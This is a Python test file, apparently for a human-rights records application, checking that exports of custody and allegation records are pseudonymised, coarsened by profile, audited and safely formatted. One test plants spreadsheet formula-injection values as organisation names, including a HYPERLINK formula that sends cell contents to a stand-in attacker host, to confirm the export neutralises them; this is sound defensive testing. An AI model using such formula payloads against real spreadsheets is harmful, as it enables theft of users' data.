"""Redacted exports of the demo records: what each persona gets, that nothing protected leaks, and that
persons, officials, dates and localities are shown as the profile declares."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest
import yaml

from habeas.accounts.models import AuditEvent
from habeas.core.spreadsheet import FORMULA_STARTS
from habeas.registry.models import Person
from habeas.reports.redaction import PROFILE_DIR, profile_read, profiles
from habeas.reports.selectors import person_pseudonym
from habeas.reports.services import ExportError
from tests.protected import leaks, protected_texts
from tests.reports.conftest import export, records, unzip

PROFILES = ["public", "partner"]


def person(label: str) -> Person:
    """A demo person by label (labels are encrypted: they are compared here, not in the database)."""
    return next(p for p in Person.objects.all() if p.label == label)


def rows_about(tables, label: str, field: str, value: str):
    return [row for row in tables[label] if row[field] == value]


def custody_of(tables, who: Person) -> dict:
    (episode,) = rows_about(tables, "custody.custodyepisode", "person", person_pseudonym(who.pk))
    return episode


def test_an_outsider_exports_nothing_of_the_demo_records(world):
    blob, summary = export(world["outsider"])
    assert summary.total == 0
    assert all(rows == [] for rows in records(blob).values())


@pytest.mark.parametrize("persona", ["member", "readonly", "owner", "superuser"])
def test_those_who_hold_the_records_export_them(world, persona):
    _, summary = export(world[persona])
    assert summary.counts["registry.person"] == 17
    assert summary.counts["custody.custodyepisode"] == 6
    assert summary.counts["cases.allegation"] == 12
    assert summary.counts["monitoring.recommendation"] == 9
    assert summary.counts["cases.perpetrator"] == 13


@pytest.mark.parametrize("fmt", ["json", "csv"])
@pytest.mark.parametrize("profile", PROFILES)
def test_no_protected_text_appears_in_any_export(world, profile, fmt):
    blob, summary = export(world["member"], profile, fmt)
    assert summary.total > 100
    contents = b"".join(text.encode("utf-8") for text in unzip(blob).values()) if fmt == "csv" else blob
    assert leaks(contents, protected_texts()) == []


def test_pseudonyms_are_stable_across_exports_and_differ_between_persons(world):
    first, summary = export(world["member"])
    second, again = export(world["member"])
    assert first == second and summary.sha256 == again.sha256
    ids = [row["id"] for row in records(first)["registry.person"]]
    assert len(set(ids)) == len(ids) == 17
    tian = person("Dmitri Tian")
    assert person_pseudonym(tian.pk) in ids
    assert person_pseudonym(tian.pk).startswith("Person ") and len(person_pseudonym(tian.pk)) == len("Person ") + 10


def test_pseudonyms_are_the_same_in_every_profile(world):
    public = {row["id"] for row in records(export(world["member"], "public")[0])["registry.person"]}
    partner = {row["id"] for row in records(export(world["member"], "partner")[0])["registry.person"]}
    assert public == partner


def test_references_to_persons_are_pseudonyms_that_join_the_persons_table(world):
    tables = records(export(world["member"])[0])
    people = {row["id"] for row in tables["registry.person"]}
    for label, field in [
        ("custody.custodyepisode", "person"),
        ("cases.allegation", "victim"),
        ("cases.perpetrator", "person"),
        ("cases.reparation", "payer"),
    ]:
        shown = {row[field] for row in tables[label]} - {None}
        assert shown <= people, label
    episodes = {row["id"] for row in tables["custody.custodyepisode"]}
    assert {row["custody"] for row in tables["custody.transfer"]} <= episodes


def test_dates_are_coarsened_to_the_month_in_the_public_export(world):
    public = records(export(world["member"], "public")[0])
    partner = records(export(world["member"], "partner")[0])
    tian = custody_of(public, person("Dmitri Tian"))
    (transfer,) = rows_about(public, "custody.transfer", "custody", tian["id"])
    assert transfer["departed_on"] == "2010-11"  # stored as a month: the month, in either profile
    kenzhebaev = person("Bazarbai Kenzhebaev")
    assert custody_of(public, kenzhebaev)["released_at"] == "2011-12"
    assert custody_of(partner, kenzhebaev)["released_at"] == "2011-12-19"
    (public_row,) = rows_about(public, "registry.person", "id", person_pseudonym(kenzhebaev.pk))
    (partner_row,) = rows_about(partner, "registry.person", "id", person_pseudonym(kenzhebaev.pk))
    assert public_row["died_on"] == "2011-12"
    assert partner_row["died_on"] == "2011-12-21"


def test_a_date_is_never_shown_finer_than_it_was_stored(world):
    partner = records(export(world["member"], "partner")[0])
    atabek = custody_of(partner, person("Aron Atabek"))
    assert atabek["apprehended_at"] == "2006"  # stored as a year, asked for to the day
    (born,) = rows_about(partner, "registry.person", "id", person_pseudonym(person("Bazarbai Kenzhebaev").pk))
    assert born["born_on"] == "1961~"  # "about 1961" stays approximate


@pytest.mark.parametrize("profile", PROFILES)
def test_birth_dates_are_given_as_years_at_most(world, profile):
    tables = records(export(world["member"], profile)[0])
    born = [row["born_on"] for row in tables["registry.person"] if row["born_on"]]
    assert born and all(len(value.rstrip("~")) == 4 for value in born)


@pytest.mark.parametrize("profile", PROFILES)
def test_officials_with_a_recorded_name_keep_it_when_the_profile_says_so(world, profile):
    tables = records(export(world["member"], profile)[0])
    ids = {row["id"] for row in tables["registry.person"]}
    assert {"Nursultan Nazarbaev", "Zhenishbek Temirov"} <= ids
    assert "Zhenishbek Temirov" in {row["payer"] for row in tables["cases.reparation"]}


def test_an_official_known_only_by_a_description_gets_a_pseudonym(world):
    tables = records(export(world["member"])[0])
    judge = person("judge in the jury trial of Dmitri Tian and Oleg Evloev")
    (row,) = rows_about(tables, "registry.person", "id", person_pseudonym(judge.pk))
    assert row["position"] == "judge"


def test_officials_are_pseudonymised_when_the_profile_says_so(world, tmp_path):
    data = yaml.safe_load((PROFILE_DIR / "public.yaml").read_text(encoding="utf-8"))
    data.update(name="strict", officials="pseudonym")
    path = Path(tmp_path / "strict.yaml")
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    tables = records(export(world["member"], profile_read(path))[0])
    ids = {row["id"] for row in tables["registry.person"]}
    assert person_pseudonym(person("Nursultan Nazarbaev").pk) in ids
    assert not {"Nursultan Nazarbaev", "Zhenishbek Temirov"} & ids


def test_localities_are_given_no_finer_than_the_profile_level(world):
    atabek = person_pseudonym(person("Aron Atabek").pk)
    (public,) = rows_about(records(export(world["member"], "public")[0]), "registry.person", "id", atabek)
    (partner,) = rows_about(records(export(world["member"], "partner")[0]), "registry.person", "id", atabek)
    assert partner["home_locality"] == "Almaty"
    assert public["home_locality"] == "KZ.02"  # the gazetteer's region code: it holds no region of Almaty


def test_places_of_detention_keep_their_names(world):
    tables = records(export(world["member"])[0])
    assert "Zhanaozen main police station" in {row["name"] for row in tables["registry.place"]}
    assert "Zhanaozen main police station" in {row["place"] for row in tables["custody.placement"]}


def test_allegations_carry_their_methods_and_no_free_text(world):
    tables = records(export(world["member"])[0])
    methods = [code for row in tables["cases.allegation"] for code in row["methods"]]
    assert "beating" in methods
    assert not {"summary", "injuries", "circumstances", "purpose", "notes"} & set(tables["cases.allegation"][0])


def test_findings_name_the_rule_a_pseudonymous_record_their_sentence_and_sources_but_not_the_subject(world):
    from habeas.standards.services import findings_evaluate

    findings_evaluate(profile_name="kz")
    blob, summary = export(world["member"])
    rows = records(blob)["standards.finding"]
    assert summary.counts["standards.finding"] == len(rows) > 0
    assert set(rows[0]) == {
        "id",
        "record",
        "status",
        "severity",
        "place",
        "organisation",
        "prevails",
        "review",
        "profile",
        "rule",
        "standard",
        "summary",
        "sources",
    }
    assert any(row["rule"] == "MANDELA-44-PROLONGED-SOLITARY" for row in rows)
    assert all(row["record"].startswith(("Person ", "registry.", "custody.", "cases.", "monitoring.")) for row in rows)
    assert leaks(blob, protected_texts()) == []
    assert export(world["outsider"])[1].counts["standards.finding"] == 0


def test_the_export_is_an_audit_event_with_the_sha256_of_the_file(world):
    blob, summary = export(world["member"], "partner", "csv")
    event = AuditEvent.objects.filter(action="export").latest("seq")
    assert event.actor == world["member"]
    assert event.details["sha256"] == hashlib.sha256(blob).hexdigest() == summary.sha256
    assert event.details["profile"] == "partner"
    assert event.details["format"] == "csv"
    assert event.details["counts"]["registry.person"] == 17
    assert "partner" in event.summary


def test_the_csv_export_is_a_zip_of_one_file_per_model(world):
    blob, summary = export(world["member"], "public", "csv")
    files = unzip(blob)
    assert set(files) == {f"{label}.csv" for label in summary.counts}
    header, *lines = files["registry.person.csv"].splitlines()
    assert header == "id,sex,born_on,died_on,home_locality,nationality,organisation,position"
    assert len(lines) == 17
    assert export(world["member"], "public", "csv")[0] == blob  # the same records give the same bytes


def test_an_unknown_format_is_refused_and_nothing_is_recorded(world):
    with pytest.raises(ExportError, match="unknown export format 'xml'"):
        export(world["member"], "public", "xml")
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.parametrize("profile", profiles())
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(world, profile):
    from habeas.registry.models import Organisation

    typed = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    organisations = list(Organisation.objects.order_by("pk")[: len(typed)])
    for organisation, name in zip(organisations, typed, strict=True):
        Organisation.objects.filter(pk=organisation.pk).update(name=name)
    blob, _ = export(world["member"], profile, "csv")
    rows = list(csv.DictReader(io.StringIO(unzip(blob)["registry.organisation.csv"], newline="")))
    names = {row["name"] for row in rows}
    assert {f"'{name}" for name in typed} <= names
    assert not any(name.startswith(FORMULA_STARTS) for row in rows for name in row.values())


def test_each_csv_file_begins_with_the_byte_order_mark_so_spreadsheets_read_cyrillic(world):
    import codecs
    import zipfile

    from habeas.registry.models import Organisation

    organisation = Organisation.objects.order_by("pk").first()
    Organisation.objects.filter(pk=organisation.pk).update(name="Департамент полиции")
    blob, _ = export(world["member"], "public", "csv")
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    assert all(content.startswith(codecs.BOM_UTF8) for content in contents.values())
    assert "Департамент полиции" in contents["registry.organisation.csv"].decode("utf-8-sig")
